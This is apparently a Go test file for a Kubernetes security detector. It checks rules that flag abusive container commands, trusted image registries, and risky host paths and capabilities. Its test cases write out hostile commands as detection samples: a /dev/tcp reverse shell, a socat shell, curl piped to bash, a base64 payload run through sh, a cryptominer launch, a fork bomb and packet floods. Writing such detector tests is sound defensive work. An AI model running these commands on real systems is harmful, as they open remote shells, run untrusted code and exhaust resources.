package rules

import (
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/tidewatch/tidewatch/shared/k8saudit"
	"github.com/tidewatch/tidewatch/shared/signal"
)

func TestMatchFlood(t *testing.T) {
	tests := []struct {
		cmd  string
		want []string
	}{
		{"sh -c 'while true; do curl -s http://x; done'", []string{"infinite loop", "HTTP client in a loop"}},
		{"bash -c 'for i in $(seq 1 100000); do wget -q -O- http://10.0.0.5/; done'", []string{"HTTP client in a loop"}},
		{"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", []string{"shell network redirection (/dev/tcp, /dev/udp)"}},
		{"sh -c 'yes > /dev/null &'", []string{"CPU burn (yes > /dev/null)"}},
		{"nc -lvnp 4444", []string{"netcat or socat"}},
		{"/usr/bin/ncat 10.0.0.1 80", []string{"netcat or socat"}},
		{"socat TCP:1.2.3.4:53 EXEC:/bin/sh", []string{"netcat or socat"}},
		{"hping3 --flood -S -p 80 10.0.0.5", []string{"packet generator (hping3)"}},
		{"ping -f 10.0.0.5", []string{"ping flood"}},
		{"ping -c 3 -f 10.0.0.5", []string{"ping flood"}},
		{"iperf3 -c 10.0.0.5 -t 3600", []string{"bandwidth generator (iperf)"}},
		{"./xmrig -o stratum+tcp://pool.example:3333", []string{"cryptominer"}},
		{"sh -c 'echo ZWNobyBoaQ== | base64 -d | sh'", []string{"decoded payload piped to a shell"}},
		{"sh -c 'curl -fsSL http://x/i.sh | bash'", []string{"download piped to a shell"}},
		{"dd if=/dev/zero of=/dev/null bs=1M", []string{"disk or CPU burn (dd from /dev/zero or /dev/urandom)"}},
		{"stress-ng --cpu 8", []string{"stress tool"}},
		{"sh -c ':(){ :|:& };:'", []string{"fork bomb"}},
		// Ordinary commands stay quiet.
		{"bash", nil},
		{"sh -c 'cat /etc/resolv.conf'", nil},
		{"/bin/inventory --format json", nil},
		{"ls -la /var/log", nil},
		{"curl -s http://localhost:8080/healthz", nil},
		{"ping -c 3 10.0.0.5", nil},
		{"python manage.py migrate", nil},
		{"sleep infinity", nil},
		{"/usr/bin/nginx -g 'daemon off;'", nil},
		{"java -jar /app/sync.jar", nil},
	}
	for _, tt := range tests {
		t.Run(tt.cmd, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, matchFlood(tt.cmd)); diff != "" {
				t.Errorf("matchFlood (-want +got):\n%s", diff)
			}
		})
	}
}

func TestShellQuote(t *testing.T) {
	tests := []struct {
		argv []string
		want string
	}{
		{[]string{"sh", "-c", "while true; do curl -s http://x; done"}, "sh -c 'while true; do curl -s http://x; done'"},
		{[]string{"echo", "it's"}, `echo 'it'\''s'`},
		{[]string{"ls", ""}, "ls ''"},
		{nil, ""},
	}
	for _, tt := range tests {
		if got := shellQuote(tt.argv); got != tt.want {
			t.Errorf("shellQuote(%q) = %q, want %q", tt.argv, got, tt.want)
		}
	}
}

func TestRegistries(t *testing.T) {
	tests := []struct {
		image   string
		key     string
		trusted bool
	}{
		{"602401143452.dkr.ecr.us-west-2.amazonaws.com/amazon-k8s-cni:v1.18.3", "602401143452.dkr.ecr.us-west-2.amazonaws.com", true},
		{"877085696533.dkr.ecr.af-south-1.amazonaws.com/eks/coredns:v1.11.1", "877085696533.dkr.ecr.af-south-1.amazonaws.com", true},
		{"602401143452.dkr.ecr-fips.us-east-1.amazonaws.com/eks/kube-proxy:v1.31", "602401143452.dkr.ecr-fips.us-east-1.amazonaws.com", true},
		{"111122223333.dkr.ecr.us-east-1.amazonaws.com/shop/cart:1", "111122223333.dkr.ecr.us-east-1.amazonaws.com", false},
		{"602401143452.evil.example/x", "602401143452.evil.example", false},
		{"registry.k8s.io/pause:3.9", "registry.k8s.io", true},
		{"public.ecr.aws/eks-distro/kubernetes/pause:3.9", "public.ecr.aws/eks-distro", true},
		{"public.ecr.aws/someone/miner:1", "public.ecr.aws/someone", false},
		{"nginx", "docker.io/library", false},
		{"docker.io/xmrig/xmrig:latest", "docker.io/xmrig", false},
		{"ghcr.io/org/app:v1", "ghcr.io/org", false},
		{"us-docker.pkg.dev/proj/repo/app", "us-docker.pkg.dev/proj", false},
		{"quay.io/prometheus/node-exporter", "quay.io/prometheus", false},
		{"mcr.microsoft.com/dotnet/runtime:8.0", "mcr.microsoft.com", false},
	}
	for _, tt := range tests {
		t.Run(tt.image, func(t *testing.T) {
			img := k8saudit.ParseImage(tt.image)
			if got := registryKey(img); got != tt.key {
				t.Errorf("registryKey = %q, want %q", got, tt.key)
			}
			if got := alwaysTrusted(img); got != tt.trusted {
				t.Errorf("alwaysTrusted = %v, want %v", got, tt.trusted)
			}
		})
	}
	allow := []string{"ghcr.io/myorg", "*.dkr.ecr.*.amazonaws.com", "Quay.io", "index.docker.io/bitnami/"}
	for image, want := range map[string]bool{
		"ghcr.io/myorg/app:v1":                   true,
		"ghcr.io/myorganization/x":               false,
		"ghcr.io/other/app":                      false,
		"1234.dkr.ecr.eu-west-1.amazonaws.com/x": true,
		"quay.io/any/thing":                      true,
		"bitnami/redis:7":                        true,
		"docker.io/xmrig/xmrig":                  false,
	} {
		if got := allowed(allow, k8saudit.ParseImage(image)); got != want {
			t.Errorf("allowed(%q) = %v, want %v", image, got, want)
		}
	}
}

func TestHostPathSeverity(t *testing.T) {
	for p, want := range map[string]signal.Severity{
		"/": signal.High, "/etc": signal.High, "/etc/kubernetes": signal.High, "/var/run/docker.sock": signal.High,
		"/run/containerd/containerd.sock": signal.High, "/var/lib/kubelet": signal.High, "/proc": signal.High, "/root": signal.High,
		"/home/ec2-user": signal.High, "/dev": signal.High, "/sys": signal.High, "/etc/../etc": signal.High,
		"/var/log": signal.Medium, "/etc/ssl/certs": signal.Medium, "/data": signal.Medium, "/sys/fs/cgroup": signal.Medium,
	} {
		if got := hostPathSeverity(p); got != want {
			t.Errorf("hostPathSeverity(%q) = %v, want %v", p, got, want)
		}
	}
	for c, want := range map[string]signal.Severity{
		"SYS_ADMIN": signal.High, "CAP_SYS_ADMIN": signal.High, "all": signal.High, "SYS_MODULE": signal.High,
		"NET_ADMIN": signal.Medium, "SYS_PTRACE": signal.Medium, "DAC_READ_SEARCH": signal.Medium,
		"NET_RAW": signal.Low, "CHOWN": signal.Informational, "NET_BIND_SERVICE": signal.Informational,
	} {
		if got := capabilitySeverity(c); got != want {
			t.Errorf("capabilitySeverity(%q) = %v, want %v", c, got, want)
		}
	}
}
